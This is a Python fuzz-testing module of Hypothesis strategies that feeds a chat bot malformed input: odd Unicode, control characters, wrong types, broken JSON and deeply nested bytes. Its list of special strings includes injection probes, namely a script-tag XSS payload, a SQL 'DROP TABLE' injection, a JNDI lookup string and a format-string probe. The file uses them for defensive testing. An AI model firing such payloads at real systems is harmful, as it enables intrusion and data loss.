"""Hypothesis strategies for bad input: odd text, wrong types, arbitrary JSON, garbage bytes."""

from __future__ import annotations

import json
from typing import Any

from hypothesis import strategies as st

from bot.inputs import DEFAULT_MAX_MESSAGE_CHARS

LIMIT = DEFAULT_MAX_MESSAGE_CHARS

# Strings that broke chat bots somewhere: right-to-left overrides, zero-width and combining
# characters, NUL and other controls, lone surrogates, intent-looking text, markup, SQL.
SPECIAL_TEXTS = (
    "",
    " ",
    "\n\t\r",
    "\x00",
    "ok\x00\x07\x1b[31m",
    "\u202eevil\u202c",
    "مرحبا، هل المشي إلى الوراء مفيد؟",
    "שלום",
    "e\u0301\u0301\u0301\u0301",
    "\u200b\u200c\u200d\ufeff",
    "👩‍👩‍👧‍👦🏃🏽‍♀️⬅️",
    "\ud800",
    "hi \udfff there",
    "\uffff\ufffe",
    "/restart",
    '/greet{"age": 1000}',
    "/delete_my_data",
    "<script>alert(1)</script>",
    "'; DROP TABLE events; --",
    "${jndi:ldap://x/a}",
    "%s%s%s%n",
    "a" * LIMIT,
    "a" * (LIMIT + 1),
)

# Any code point, surrogates and controls included.
any_character = st.one_of(
    st.characters(codec=None, categories=None),
    st.characters(categories=("Cs", "Cc", "Cf", "Mn", "Zl", "Zp")),
)

message_text = st.one_of(
    st.sampled_from(SPECIAL_TEXTS),
    st.text(any_character, max_size=60),
    st.text(any_character, min_size=LIMIT - 2, max_size=LIMIT + 2),
    st.integers(LIMIT + 1, 6 * LIMIT).map(lambda n: "walk " * (n // 5 + 1)),
)

json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(any_character, max_size=20),
)

json_values: st.SearchStrategy[Any] = st.recursive(
    json_scalars,
    lambda children: st.one_of(
        st.lists(children, max_size=4),
        st.dictionaries(st.text(any_character, max_size=10), children, max_size=4),
    ),
    max_leaves=12,
)

wrong_types = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False),
    st.lists(st.text(max_size=5), max_size=3),
    st.dictionaries(st.text(max_size=5), st.text(max_size=5), max_size=2),
)

garbage_bytes = st.one_of(
    st.binary(max_size=300),
    st.sampled_from(
        [
            b"",
            b"{",
            b"null",
            b"[]",
            b'{"sender": "x", "message": NaN}',
            b'{"sender": "x", "message": "\xff\xfe"}',
            b"\xef\xbb\xbf{}",
            b"[" * 5000 + b"]" * 5000,
            b'{"a":' * 3000 + b"1" + b"}" * 3000,
        ]
    ),
)

content_types = st.sampled_from(
    [
        "application/json",
        "application/json; charset=latin-1",
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/octet-stream",
        "",
    ]
)


def to_json_bytes(value: Any) -> bytes:
    """``value`` as JSON text (lone surrogates as ``\\ud800`` escapes, like any client may)."""
    return json.dumps(value, ensure_ascii=True).encode("ascii")
